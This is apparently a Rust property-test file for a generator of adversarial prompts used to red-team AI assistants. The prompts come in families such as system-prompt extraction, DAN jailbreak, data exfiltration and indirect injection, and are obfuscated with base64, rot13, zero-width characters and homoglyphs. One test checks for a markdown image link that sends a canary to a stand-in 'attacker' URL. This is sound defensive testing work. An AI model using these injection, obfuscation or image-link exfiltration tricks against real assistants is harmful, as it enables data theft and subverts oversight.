//! Properties of the adversarial-prompt generator: every family and obfuscation is made and
//! labelled, and the canary survives each obfuscation recoverably (checked with this
//! module's own inverse transforms, not the generator's).

use std::collections::BTreeSet;

use arbitrary::{Arbitrary, Unstructured};
use base64::Engine as _;
use confab::generators::prompt::{
    AdversarialPrompt, Obfuscation, Placement, PromptContext, PromptFamily, PromptRecipe,
};
use proptest::prelude::*;
use proptest::test_runner::TestRunner;
use serde_json::json;

use super::gen_llm::{as_set, config, draw};

// ---------------------------------------------------------------------------------------------
// Independent inverse transforms and look-alike folding

fn rot13(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                (b'a' + (c as u8 - b'a' + 13) % 26) as char
            } else if c.is_ascii_uppercase() {
                (b'A' + (c as u8 - b'A' + 13) % 26) as char
            } else {
                c
            }
        })
        .collect()
}

fn strip_zero_width(text: &str) -> String {
    text.chars()
        .filter(|c| {
            !matches!(
                c,
                '\u{200B}' | '\u{200C}' | '\u{200D}' | '\u{2060}' | '\u{FEFF}'
            )
        })
        .collect()
}

/// Every whitespace-separated word that decodes as standard base64 to UTF-8.
fn base64_words(text: &str) -> Vec<String> {
    text.split_whitespace()
        .filter_map(|word| base64::engine::general_purpose::STANDARD.decode(word).ok())
        .filter_map(|bytes| String::from_utf8(bytes).ok())
        .collect()
}

/// Cyrillic, Greek and fullwidth look-alikes back to Latin (a table of this test's own).
fn fold_look_alikes(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'а' => 'a',
            'с' => 'c',
            'е' => 'e',
            'і' => 'i',
            'ј' => 'j',
            'о' => 'o',
            'р' => 'p',
            'ѕ' => 's',
            'х' => 'x',
            'у' => 'y',
            'А' => 'A',
            'В' => 'B',
            'С' => 'C',
            'Е' => 'E',
            'Н' => 'H',
            'І' => 'I',
            'Ј' => 'J',
            'К' => 'K',
            'М' => 'M',
            'О' => 'O',
            'Р' => 'P',
            'Ѕ' => 'S',
            'Т' => 'T',
            'Х' => 'X',
            'ι' => 'i',
            'ο' => 'o',
            'ν' => 'v',
            'Α' => 'A',
            'Β' => 'B',
            'Ε' => 'E',
            'Η' => 'H',
            'Ι' => 'I',
            'Κ' => 'K',
            'Μ' => 'M',
            'Ν' => 'N',
            'Ο' => 'O',
            'Ρ' => 'P',
            'Τ' => 'T',
            'Χ' => 'X',
            'Υ' => 'Y',
            'Ζ' => 'Z',
            '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFEE0).unwrap_or(c),
            _ => c,
        })
        .collect()
}

fn is_canary(value: &str) -> bool {
    value.strip_prefix("CNRY-").is_some_and(|hex| {
        hex.len() == 16
            && hex
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// Checks what the module table of `confab::generators::prompt` promises about the canary.
fn check_canary(prompt: &AdversarialPrompt) -> Result<(), TestCaseError> {
    let canary = prompt.canary.as_str();
    let text = prompt.payload.as_str();
    prop_assert!(is_canary(canary), "bad canary {canary}");
    prop_assert!(prompt.plain.contains(canary));
    prop_assert!(prompt.text.contains(text));
    match prompt.obfuscation {
        Obfuscation::None | Obfuscation::Translation => prop_assert!(text.contains(canary)),
        Obfuscation::Base64 => {
            prop_assert!(!text.contains(canary));
            prop_assert!(
                base64_words(text)
                    .iter()
                    .any(|decoded| decoded.contains(canary))
            );
        }
        Obfuscation::Rot13 => {
            prop_assert!(!text.contains(canary));
            prop_assert!(rot13(text).contains(canary));
        }
        Obfuscation::ZeroWidth => {
            prop_assert!(!text.contains(canary));
            prop_assert_eq!(strip_zero_width(text), prompt.plain.clone());
        }
        Obfuscation::Leetspeak => {
            // Documented: the canary stays verbatim; every leetable letter elsewhere is gone.
            prop_assert!(text.contains(canary));
            let outside = text.replace(canary, "");
            prop_assert!(
                !outside.chars().any(|c| "aeiostgbAEIOSTGB".contains(c)),
                "leet left letters in {outside:?}"
            );
        }
        Obfuscation::Homoglyphs | Obfuscation::MixedScripts => {
            // Documented: the canary stays verbatim; folding look-alikes gives the plain text.
            prop_assert!(text.contains(canary));
            prop_assert_ne!(text, prompt.plain.as_str());
            prop_assert_eq!(fold_look_alikes(text), prompt.plain.clone());
        }
    }
    Ok(())
}

#[test]
fn every_prompt_family_and_obfuscation_is_generated_and_labelled() {
    let mut runner = TestRunner::deterministic();
    let strategy = PromptRecipe::strategy();
    let ctx = PromptContext::default();
    let mut families = BTreeSet::new();
    let mut obfuscations = BTreeSet::new();
    for _ in 0..2_000 {
        let recipe = draw(&mut runner, &strategy);
        let prompt = recipe.build(&ctx);
        assert_eq!(prompt.family, recipe.family);
        assert_eq!(prompt.obfuscation, recipe.obfuscation);
        families.insert(prompt.family);
        obfuscations.insert(prompt.obfuscation);
    }
    assert_eq!(families, PromptFamily::ALL.into_iter().collect());
    assert_eq!(obfuscations, Obfuscation::ALL.into_iter().collect());
}

#[test]
fn prompt_labels_are_stable_snake_case_serde_names() {
    let family_names: Vec<String> = PromptFamily::ALL
        .iter()
        .map(|family| {
            assert_eq!(json!(family), json!(family.name()));
            family.name().to_owned()
        })
        .collect();
    let obfuscation_names: Vec<String> = Obfuscation::ALL
        .iter()
        .map(|obfuscation| {
            assert_eq!(json!(obfuscation), json!(obfuscation.name()));
            obfuscation.name().to_owned()
        })
        .collect();
    for name in family_names.iter().chain(&obfuscation_names) {
        let snake = name.starts_with(|c: char| c.is_ascii_lowercase())
            && name
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_');
        assert!(snake, "{name}");
    }
    assert_eq!(as_set(&family_names).len(), PromptFamily::ALL.len());
    assert_eq!(as_set(&obfuscation_names).len(), Obfuscation::ALL.len());
    assert_eq!(
        family_names,
        [
            "system_prompt_extraction",
            "instruction_override",
            "dan_jailbreak",
            "data_exfiltration",
            "cost_exploitation",
            "indirect_injection"
        ]
    );
}

#[test]
fn every_obfuscation_hides_the_canary_of_every_family_recoverably() {
    let ctx = PromptContext::default();
    for family in PromptFamily::ALL {
        for obfuscation in Obfuscation::ALL {
            for template in 0..6 {
                let recipe = PromptRecipe {
                    family,
                    obfuscation,
                    template,
                    seed: 42 + u64::from(template),
                };
                if let Err(failure) = check_canary(&recipe.build(&ctx)) {
                    panic!("{recipe:?}: {failure}");
                }
            }
        }
    }
}

#[test]
fn exfiltration_prompts_aim_at_the_attacker_with_the_canary() {
    let ctx = PromptContext {
        attacker_base_url: "http://127.0.0.1:41235/attacker/".into(),
    };
    let recipe = PromptRecipe {
        family: PromptFamily::DataExfiltration,
        obfuscation: Obfuscation::None,
        template: 0,
        seed: 7,
    };
    let prompt = recipe.build(&ctx);
    let image = format!("![x](http://127.0.0.1:41235/attacker/?q={})", prompt.canary);
    assert!(prompt.text.contains(&image), "{}", prompt.text);
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn prompt_canary_is_recoverable_after_deobfuscation(recipe in PromptRecipe::strategy()) {
        check_canary(&recipe.build(&PromptContext::default()))?;
    }

    #[test]
    fn indirect_injection_goes_into_a_document_and_the_rest_into_the_prompt(recipe in PromptRecipe::strategy()) {
        let prompt = recipe.build(&PromptContext::default());
        if prompt.family == PromptFamily::IndirectInjection {
            prop_assert_eq!(prompt.placement, Placement::Document);
            prop_assert!(!prompt.user_prompt.contains(&prompt.canary));
            prop_assert!(prompt.user_prompt.len() < prompt.text.len());
        } else {
            prop_assert_eq!(prompt.placement, Placement::UserPrompt);
            prop_assert_eq!(&prompt.user_prompt, &prompt.text);
        }
    }

    #[test]
    fn same_prompt_recipe_gives_same_prompt(recipe in PromptRecipe::strategy()) {
        let ctx = PromptContext::default();
        prop_assert_eq!(recipe.build(&ctx), recipe.build(&ctx));
        let other_seed = PromptRecipe { seed: recipe.seed.wrapping_add(1), ..recipe.clone() };
        prop_assert_ne!(recipe.canary(), other_seed.canary());
    }

    #[test]
    fn arbitrary_bytes_give_valid_prompts(bytes in prop::collection::vec(any::<u8>(), 0..64)) {
        let mut unstructured = Unstructured::new(&bytes);
        let recipe = PromptRecipe::arbitrary(&mut unstructured)
            .map_err(|error| TestCaseError::fail(error.to_string()))?;
        let prompt = recipe.build(&PromptContext::default());
        prop_assert_eq!(prompt.family, recipe.family);
        check_canary(&prompt)?;
    }
}
